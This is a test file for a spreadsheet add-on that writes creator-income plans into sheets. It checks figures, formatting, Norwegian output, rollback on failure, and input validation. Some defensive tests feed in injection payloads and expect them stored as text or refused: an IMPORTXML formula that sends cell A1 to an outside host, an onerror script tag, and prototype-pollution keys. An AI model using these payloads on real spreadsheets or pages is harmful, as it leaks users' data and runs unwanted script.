import { describe, expect, it } from 'vitest';
import type { InsertReply, InsertRequest, PlanSheetReply } from '../../src/messages';
import { differenceTo } from '../../src/scenario/compare';
import { scenarioResults } from '../../src/scenario/results';
import { planRows } from '../../src/templates/plans/planTab';
import { readPlans } from '../../src/templates/plans/readPlans';
import { sideRows } from '../../src/templates/plans/sideBySide';
import type { Workbench } from '../../workbench/session';
import { expectClose } from '../close';
import { full, norway, unconverted } from '../templates/plans';
import { openAddon, sheetNames } from './open';

const own = { ...full, name: 'More deals', values: { ...full.values, deals: 6 } };
const names = ['Longer videos', 'More deals', 'Norge', 'Kroner'];
const request: InsertRequest = { scenarios: [full, own, norway, unconverted], language: 'en' };

function insert(addon: Workbench, message: unknown = request): InsertReply {
  const reply = addon.run('insertScenarios', message);
  if (!reply.ok) throw new Error(reply.message);
  return reply.value as InsertReply;
}

function rangeNames({ model }: Workbench): string[] {
  return model.getters.getNamedRanges().map(({ name }) => name);
}

/** The row of a label in column A, the last of that name. */
function rowOf(addon: Workbench, label: string, sheet = 'Plans'): number {
  return addon.values(sheet, 'A1:A170').findLastIndex(([cell]) => cell === label) + 1;
}

/** Every cell that shows an error. */
function errorsIn(addon: Workbench, sheet: string): unknown[] {
  return addon
    .values(sheet, 'A1:O170')
    .flatMap((row, r) =>
      row.flatMap((value, c) => (typeof value === 'string' && value.startsWith('#') ? [[r + 1, c + 1, value]] : [])),
    );
}

describe('plans in a new sheet', () => {
  it('follow a changed input as the panel would', () => {
    const addon = openAddon();
    expect(insert(addon, { ...request, scenarios: [full] })).toEqual({ ok: true, sheetName: 'Plans' });
    const row = (label: string) => addon.values('Plans', 'A1:A80').findIndex(([cell]) => cell === label) + 1;
    const typed: readonly [string, string][] = [
      [`D${row('Views a month')}`, '1400000'],
      [`D${row('RPM')}`, '3'],
      [`C${row('Orders a month')}`, '10'],
      [`D${row('Country')}`, 'Norge'],
      [`D${row('Currency')}`, 'NOK'],
      [`D${row('Country')}`, ''],
      [`D${row('Value of 1 USD')}`, '10'],
      [`D${row('Date of that rate')}`, '2026-11-01'],
      [`D${row('Diamonds a month')}`, ''],
      [`D${row('Merch: cost of a unit')}`, '90'],
      [`D${row('Qualified share')}`, ''],
      [`D${row('RPM')}`, ''],
      [`D${row('Manager’s share is taken of')}`, 'Netto'],
    ];
    for (const [cell, text] of typed) {
      addon.setCell('Plans', cell, text);
      const reply = addon.run('readPlanSheet', { range: 'CreatorPaysheetPlans1' });
      const [scenario] = readPlans((reply.ok && reply.value) as PlanSheetReply & { ok: true })?.scenarios ?? [];
      if (scenario === undefined) throw new Error('no plan');
      const { total, net } = scenarioResults(scenario);
      ['C', 'D', 'E'].forEach((column, i) => {
        const level = (['low', 'mid', 'high'] as const)[i] ?? 'mid';
        const shown = (key: string) =>
          addon.cell('Plans', `${column}${planRows('en').findIndex((one) => one.key === key) + 3}`).value;
        expect(shown('total'), `${cell} = ${text}`).toBeCloseTo(total[level], 6);
        expect(shown('net'), `${cell} = ${text}`).toBeCloseTo(net[level], 6);
      });
    }
  });

  it('stand side by side, with what each leaves more than the first', () => {
    const addon = openAddon();
    insert(addon);
    const columns = ['B', 'C', 'D', 'E'];
    const shown = (label: string) =>
      columns.map((column) => addon.cell('Plans', `${column}${rowOf(addon, label)}`).value);
    const results = request.scenarios.map(scenarioResults);
    const [first] = results;
    if (first === undefined) throw new Error('no plan');
    expect(shown('Plan')).toEqual(names);
    expect(shown('Side by side, at mid')).toEqual(['USD', 'USD', 'NOK', 'NOK']);
    shown('All streams').forEach((value, i) => void expectClose(value, results[i]?.total.mid as number));
    const difference = differenceTo(first, results[1] ?? first, 'net');
    const [none, amount, ...others] = shown('More than the first plan');
    expect([none, ...others]).toEqual(['', '', '']);
    expect(amount).toBeCloseTo(difference?.amount as number, 6);
    expect(shown('In percent of it')[1]).toBeCloseTo(difference?.share as number, 6);
  });

  it('have a chart of what each stream brings', () => {
    const addon = openAddon();
    insert(addon);
    const sheetId = addon.model.getters.getSheetIdByName('Plans') as string;
    const [chart = ''] = addon.model.getters.getChartIds(sheetId);
    const { chartJsConfig } = addon.model.getters.getChartRuntime(chart) as unknown as {
      chartJsConfig: { data: { labels: string[]; datasets: { label: string; backgroundColor: unknown }[] } };
    };
    expect(chartJsConfig.data.labels).toEqual(names);
    expect(chartJsConfig.data.datasets.map(({ label, backgroundColor }) => [label, backgroundColor])).toEqual([
      ['Creator Rewards', '#0072b2'],
      ['Brand deals', '#d55e00'],
      ['Affiliate links', '#009e73'],
      ['LIVE gifts', '#e69f00'],
      ['Own products', '#cc79a7'],
    ]);
  });

  it('look like a table: headings bold and frozen, figures with units', () => {
    const addon = openAddon();
    insert(addon);
    const look = (a1: string) => {
      addon.select('Plans', a1);
      return addon.model.getters.getCurrentStyle();
    };
    expect(['A1', 'C1', 'E2', 'A3', 'A4'].map((a1) => look(a1).bold ?? false)).toEqual([true, true, true, true, true]);
    expect(look('A5').bold ?? false).toBe(false);
    const row = (label: string) => addon.values('Plans', 'A1:A80').findIndex(([cell]) => cell === label) + 1;
    const texts = ['Views a month', 'Qualified share', 'RPM'].map(
      (label) => addon.cell('Plans', `D${row(label)}`).text,
    );
    expect(texts).toEqual(['1,000,000', '40.0%', '0.70']);
    expect(addon.cell('Plans', `J${row('Date of that rate')}`).text).toBe('2026-11-20');
    const sheetId = addon.model.getters.getActiveSheetId();
    expect(addon.model.getters.getPaneDivisions(sheetId)).toEqual({ xSplit: 1, ySplit: 2 });
  });

  it('speak Norwegian, with a decimal comma', () => {
    const addon = openAddon([[null]], 'nb');
    expect(insert(addon, { ...request, language: 'nb' })).toEqual({ ok: true, sheetName: 'Planer' });
    expect(errorsIn(addon, 'Planer')).toEqual([]);
    const results = scenarioResults(full);
    expect(addon.cell('Planer', `B${rowOf(addon, 'Igjen til deg', 'Planer')}`).value).toBeCloseTo(results.net.mid, 6);
    expect(addon.cell('Planer', `I${rowOf(addon, 'Det som mangler for det', 'Planer')}`).value).toBe(
      'Ikke tilgjengelig for kontoer fra Norge (landliste per 26.11.2025)',
    );
    expect(addon.cell('Planer', `D${rowOf(addon, 'Nisje', 'Planer')}`).value).toBe('teknologi');
  });

  it('leave the results of an unfinished plan empty, and no error', () => {
    const addon = openAddon();
    insert(addon, { ...request, scenarios: [{ name: 'New', values: {} }] });
    expect(errorsIn(addon, 'Plans')).toEqual([]);
    expect(addon.faults).toEqual([]);
  });

  it('never touch a sheet that stands, nor its name', () => {
    const addon = openAddon([['mine', 1]]);
    insert(addon);
    addon.setCell('Plans', 'D6', '5');
    expect(insert(addon)).toEqual({ ok: true, sheetName: 'Plans 2' });
    expect(insert(addon)).toEqual({ ok: true, sheetName: 'Plans 3' });
    expect(sheetNames(addon)).toEqual(expect.arrayContaining(['Data', 'Plans', 'Plans 2', 'Plans 3']));
    expect(rangeNames(addon)).toEqual(['CreatorPaysheetPlans1', 'CreatorPaysheetPlans2', 'CreatorPaysheetPlans3']);
    expect(addon.cell('Plans', 'D6').value).toBe(5);
    expect(addon.values('Data', 'A1:B1')).toEqual([['mine', 1]]);
  });

  it('cost at most 20 service calls, whatever their number', () => {
    for (const scenarios of [[full], request.scenarios]) {
      const addon = openAddon();
      insert(addon, { ...request, scenarios });
      expect(addon.calls.names.length, addon.calls.names.join(', ')).toBeLessThanOrEqual(20);
    }
  });

  it('have one label for each row, in both languages', () => {
    for (const language of ['en', 'nb'] as const) {
      const labels = planRows(language).map(({ label }) => label[language].toLowerCase());
      expect(labels.filter((label, i) => labels.indexOf(label) !== i)).toEqual([]);
      // What the table at the end repeats are results, and no input is taken for one.
      const repeated = sideRows().map(({ label }) => label[language].toLowerCase());
      expect(labels.slice(0, 80).filter((label) => repeated.includes(label))).toEqual([]);
    }
  });
});

describe('a sheet of plans', () => {
  it('is read under its range, also after it was renamed', () => {
    const addon = openAddon();
    insert(addon);
    const { model } = addon;
    const sheetId = model.getters.getSheetIdByName('Plans') as string;
    model.dispatch('RENAME_SHEET', { sheetId, oldName: 'Plans', newName: 'Mine' });
    const reply = addon.run('readPlanSheet', { range: 'CreatorPaysheetPlans1' });
    expect(reply.ok && reply.value).toMatchObject({ ok: true, sheetName: 'Mine' });
  });

  it.each([
    [{ range: 'CreatorPaysheetPlans7' }, 'gone'],
    [{ range: "'Copy of Plans'!CreatorPaysheetPlans1" }, 'gone'],
    [{ range: 'A1:B2' }, 'invalid-request'],
    [{ range: 'Data!A1' }, 'invalid-request'],
    [{ range: 5 }, 'invalid-request'],
    [null, 'invalid-request'],
  ])('asked for as %j is none', (message, problem) => {
    const addon = openAddon();
    const reply = addon.run('readPlanSheet', message);
    expect(reply.ok && reply.value).toEqual({ ok: false, problem });
  });
});

describe('whatever goes wrong', () => {
  const calls = (() => {
    const addon = openAddon();
    insert(addon, { ...request, scenarios: [full] });
    return [...addon.calls.names];
  })();
  const released = calls.indexOf('Lock.releaseLock');

  it.each(
    calls.map((name, i) => [i + 1, name] as const).filter(([n]) => n - 1 !== released),
  )('call %d (%s) fails: nothing is left behind, and trying again works', (n) => {
    const addon = openAddon([['mine']]);
    addon.calls.failAt(n);
    const reply = insert(addon, { ...request, scenarios: [full] });
    expect(reply).toEqual({ ok: false, problem: 'not-written' });
    expect(sheetNames(addon)).toEqual(['Data']);
    expect(rangeNames(addon)).toEqual([]);
    expect(addon.values('Data', 'A1')).toEqual([['mine']]);
    expect(insert(addon, { ...request, scenarios: [full] })).toEqual({ ok: true, sheetName: 'Plans' });
    expect(rangeNames(addon)).toEqual(['CreatorPaysheetPlans1']);
  });

  it('a lock that can’t be released ends with its run', () => {
    const addon = openAddon();
    addon.calls.failAt(released + 1);
    expect(insert(addon, { ...request, scenarios: [full] })).toEqual({ ok: true, sheetName: 'Plans' });
  });

  it('is told where what was written can’t be taken away again', () => {
    const addon = openAddon();
    addon.calls.failAt(calls.indexOf('SpreadsheetApp.flush') + 1, 10);
    expect(insert(addon, { ...request, scenarios: [full] })).toEqual({ ok: false, problem: 'left-over' });
  });

  it('another run that goes on for too long is told', () => {
    const addon = openAddon();
    addon.lock.heldElsewhere = true;
    expect(insert(addon)).toEqual({ ok: false, problem: 'busy' });
    expect(sheetNames(addon)).toEqual(['Data']);
  });

  it.each([
    ['=IMPORTXML("https://example.com/?"&A1;"//a")'],
    ['+1'],
    ['-1'],
    ['@x'],
    ['＝1'],
    ['1.5'],
    ['3 March'],
    ['TRUE'],
    ["'quoted"],
    ['<img src=x onerror=alert(1)>'],
    ['x'.repeat(5000)],
    ['\u202e😀 عربي'],
    ['\t=1'],
    ['\n=1'],
    [''],
  ])('the name %j is written as text', (name) => {
    const addon = openAddon();
    expect(insert(addon, { ...request, scenarios: [{ ...full, name }] }).ok).toBe(true);
    expect(addon.cell('Plans', 'C1').value).toBe(name);
    expect(addon.cell('Plans', `B${rowOf(addon, 'Plan')}`).value).toBe(name.slice(0, 40));
  });

  it.each([
    ['=1+1'],
    ['+1'],
    ['@x'],
    ['<b>'],
    ['1.5'],
    ['TRUE'],
    ['"&A1&"'],
  ])('the currency %j is written as text', (currency) => {
    const addon = openAddon();
    insert(addon, { ...request, scenarios: [{ ...full, values: { ...full.values, currency } }] });
    const row = addon.values('Plans', 'A1:A80').findIndex(([cell]) => cell === 'Currency') + 1;
    expect(addon.cell('Plans', `D${row}`).value).toBe(currency);
    expect(errorsIn(addon, 'Plans')).toEqual([]);
  });

  const withValue = (id: string, value: unknown) => ({
    ...request,
    scenarios: [{ name: 'x', values: { [id]: value } }],
  });
  it.each([
    [null],
    ['text'],
    [[]],
    [{ ...request, language: 'de' }],
    [{ ...request, scenarios: [] }],
    [{ ...request, scenarios: [full, full, full, full, full] }],
    [{ ...request, scenarios: 'many' }],
    [{ ...request, scenarios: [{ ...full, name: 5 }] }],
    [{ ...request, scenarios: [{ ...full, name: 'x'.repeat(5001) }] }],
    [{ ...request, scenarios: [{ name: 'nothing else' }] }],
    [{ ...request, scenarios: [{ name: 'x', values: [] }] }],
    [withValue('unknown', 1)],
    [withValue('constructor', 1)],
    [withValue('views', -1)],
    [withValue('views', '=1')],
    [withValue('views', null)],
    [withValue('views', { low: 3, mid: 2, high: 1 })],
    [withValue('views', 'low')],
    [withValue('followers', { low: 1, mid: 2, high: 3 })],
    [withValue('share', 43)],
    [withValue('rpm', 0)],
    [withValue('rpm', 'much')],
    [withValue('country', 'XX')],
    [withValue('country', '=HYPERLINK("x")')],
    [withValue('currency', 'x'.repeat(13))],
    [withValue('usdDate', '2026-02-30')],
    [withValue('usdDate', '=NOW()')],
    [withValue('rush', 'TRUE')],
    [withValue('niche', '__proto__')],
  ])('%j is refused before anything is written', (message) => {
    const addon = openAddon();
    expect(insert(addon, message)).toEqual({ ok: false, problem: 'invalid-request' });
    expect(addon.calls.names).toEqual([]);
    expect(sheetNames(addon)).toEqual(['Data']);
  });
});
